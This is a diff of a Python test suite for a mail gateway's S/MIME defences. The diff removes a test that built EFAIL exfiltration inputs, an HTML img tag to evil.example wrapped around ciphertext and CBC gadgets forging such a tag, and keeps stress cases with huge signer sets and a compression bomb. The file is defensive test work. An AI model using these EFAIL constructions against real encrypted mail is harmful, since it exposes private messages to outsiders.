@@ -1,7 +1,6 @@
 #!/usr/bin/env python3
 """Damaged, tampered and oversized mail: never text that nobody vouches for, never a difference that an outsider could use, never a message
 that comes back for ever; ADMIN hears of it once."""
-import email
 import os
 import re
 import sys
@@ -10,7 +9,7 @@ import zlib
 
 sys.path.insert(0, os.path.join(os.path.dirname(__file__), "..", "lib"))
 import gateway  # noqa: E402
-from outside import EYE, Outside, der_of, fields, receive, text, tlv, wrap  # noqa: E402
+from outside import EYE, Outside, der_of, fields, receive, signed_data, signer_info, text, tlv, wrap  # noqa: E402
 
 ONE = "user_1@behoerde.de"
 SECRET = "The secret plan, " + "word by word, " * 20 + "end.\n"
@@ -60,41 +59,12 @@ def indistinguishable(tap, g, out):
     print("# seconds:", {name: round(value, 3) for name, value in times.items()})  # to look at: a test must not depend on speed
 
 
-def gadgets(tap, g, out):
-    """EFAIL: exfiltration by parts around the cipher text, and CBC gadgets."""
-    part = out.encrypt(text(SECRET), ONE).split(b"MIME-Version: 1.0\n", 1)[1]
-    html = b"MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=q\n\n--q\nContent-Type: text/html\n\n<img src=\"http://evil.example/\n--q\n" \
-        + part + b"\n--q\nContent-Type: text/html\n\n\">\n--q--\n"
-    code, output, got, _ = receive(g, fields() + html)
-    tap.ok(code == 0 and got and got[0].encryption == "none" and b"secret" not in got[0].octets,
-           "CMS between HTML parts is not decrypted", output)
-    known = b"Content-Type: text/plain; charset=us-ascii\r\n\r\n"
-    der = gateway.openssl("cms", "-encrypt", "-binary", "-aes-256-cbc", "-outform", "DER", "-recip", g.pki.path(ONE + ".crt"),
-                          input=known + SECRET.replace("\n", "\r\n").encode() * 3)
-    cipher = der.index(bytes.fromhex("60864801650304012a"))
-    iv = cipher + 11
-    body = element(der, element(der, cipher)[1] + 18 if der[cipher + 9] != 4 else iv + 16)[0]
-
-    def gadget(wanted):
-        """A block pair whose second half decrypts to `wanted`; the first half comes out random."""
-        before, block = der[iv:iv + 16], der[body:body + 16]
-        return bytes(a ^ b ^ c for a, b, c in zip(before, known[:16], wanted)) + block
-
-    gadgets_made = gadget(b"<img src=http:/ ") + gadget(b"/evil.example/  ")
-    tampered = der[:body + 96] + gadgets_made + der[body + 96 + len(gadgets_made):]
-    code, output, got, _ = receive(g, fields() + wrap(tampered))
-    shown = got and email.message_from_bytes(got[0].octets).get_payload(decode=True)
-    tap.ok(code == 0 and got and got[0].status == ("not-integrity-protected", "none") and b"<img src=http:/ " in shown,
-           "a CBC gadget in the middle is marked as not integrity-protected", f"{output} {got and got[0].octets[:900]}")
-    first = gadget(b"Content-Type: TE")[:16]
-    prefixed = der[:iv] + first + der[iv + 16:]
-    code, output, got, _ = receive(g, fields() + wrap(prefixed))
-    tap.ok(code == 0 and got and got[0].encryption in ("not-integrity-protected", "undecryptable"), "a changed IV is marked", output)
+def flipped(tap, g, out):
     signed = out.sign(text(SECRET), EYE)
     cut = der_of(out.encrypt(signed, ONE))
-    flipped = bytearray(cut)
-    flipped[len(cut) // 2] ^= 1
-    code, output, got, _ = receive(g, fields() + wrap(bytes(flipped)))
+    other = bytearray(cut)
+    other[len(cut) // 2] ^= 1
+    code, output, got, _ = receive(g, fields() + wrap(bytes(other)))
     tap.ok(code == 0 and got and got[0].signature != "valid", "a flipped bit in a signed and encrypted message never stays valid", output)
 
 
@@ -103,23 +73,17 @@ def limits(tap, g, out):
     opaque = der_of(out.sign(text(), EYE, opaque=True))
     certificate = gateway.openssl("x509", "-in", g.pki.path(EYE + ".crt"), "-outform", "DER")
 
-    def signed(certificates, infos, content=text()):
-        data = bytes.fromhex("06092a864886f70d010701")
-        inner = (tlv(2, b"\x01") + tlv(0x31, tlv(0x30, bytes.fromhex("0609608648016503040201"))) +
-                 tlv(0x30, data, tlv(0xa0, tlv(4, content))) + tlv(0xa0, *certificates) + tlv(0x31, *infos))
-        return tlv(0x30, bytes.fromhex("06092a864886f70d010702"), tlv(0xa0, tlv(0x30, inner)))
-
-    info = find_signer_info(opaque)
+    info = signer_info(opaque)
     content = text().replace(b"\n", b"\r\n")
     cases = (
-        ("the rebuilt message", signed([certificate], [info], content), ("none", "valid")),
-        ("1000 certificates", signed([certificate] * 1000, [info], content), ("none", None)),
-        ("1000 signers", signed([certificate], [info] * 1000, content), ("none", "unsupported")),
-        ("16 signers", signed([certificate], [info] * 16, content), ("none", "valid")),
-        ("17 signers", signed([certificate], [info] * 17, content), ("none", "unsupported")),
-        ("a certificate of 2 MB", signed([certificate, tlv(0x30, bytes(2000000))], [info], content), ("none", None)),
-        ("signers without certificate", signed([], [info] * 16, content), ("none", "unknown")),
-        ("an empty set of signers", signed([certificate], [], content), ("none", "unsupported")),
+        ("the rebuilt message", signed_data([certificate], [info], content), ("none", "valid")),
+        ("1000 certificates", signed_data([certificate] * 1000, [info], content), ("none", None)),
+        ("1000 signers", signed_data([certificate], [info] * 1000, content), ("none", "unsupported")),
+        ("16 signers", signed_data([certificate], [info] * 16, content), ("none", "valid")),
+        ("17 signers", signed_data([certificate], [info] * 17, content), ("none", "unsupported")),
+        ("a certificate of 2 MB", signed_data([certificate, tlv(0x30, bytes(2000000))], [info], content), ("none", None)),
+        ("signers without certificate", signed_data([], [info] * 16, content), ("none", "unknown")),
+        ("an empty set of signers", signed_data([certificate], [], content), ("none", "unsupported")),
     )
     for name, der, status in cases:
         start = time.monotonic()
@@ -129,7 +93,7 @@ def limits(tap, g, out):
         tap.ok(good, name, f"{code} {output} {[d.status for d in got]}")
         tap.ok(taken < 60, f"... in {taken:.2f} s, well before any deadline")
     enveloped = der_of(out.encrypt(text(), ONE))
-    for count, words in ((1999, ("not-integrity-protected",)), (5000, ("undecryptable", "unsupported"))):
+    for count, words in ((1999, ("not-integrity-protected",)), (10000, ("unsupported",))):
         der = with_recipients(enveloped, count)
         start = time.monotonic()
         code, output, got, _ = receive(g, fields() + wrap(der))
@@ -144,17 +108,6 @@ def limits(tap, g, out):
         bomb = wrap(compressed(bomb), "compressed-data", name="smime.p7z").split(b"\n", 1)[1] + b"\n" * 3500000
     code, output, got, _ = receive(g, fields() + bomb)
     tap.ok(code == 0 and got and got[0].encryption == "unsupported", "compressed again and again", f"{code} {output} {[d.status for d in got]}")
-
-
-def find_signer_info(opaque):
-    """The only SignerInfo of a SignedData that openssl wrote (DER or indefinite)."""
-    der = gateway.openssl("asn1parse", "-inform", "DER", "-in", "/dev/stdin", input=opaque).decode()
-    lines = [line for line in der.splitlines() if re.match(r" *\d+:d=", line)]
-    at = int([line for line in lines if re.search(r"d=3 .*cons: SET", line)][-1].split(":")[0])
-    info = next(line for line in lines if int(line.split(":")[0]) > at and "SEQUENCE" in line)
-    offset = int(info.split(":")[0])
-    head, size = (int(re.search(rf"\b{word}= *(\d+)", info)[1]) for word in ("hl", "l"))
-    return opaque[offset:offset + head + size]
 
 
 def element(der, at):
@@ -223,7 +176,7 @@ def main():
         g.own_key(ONE)
         g.pki.person(EYE)
         g.pki.person("stranger@partner-1.com")
-        for part in (indistinguishable, gadgets, limits, once):
+        for part in (indistinguishable, flipped, limits, once):
             part(tap, g, out)
     return tap.end()
 
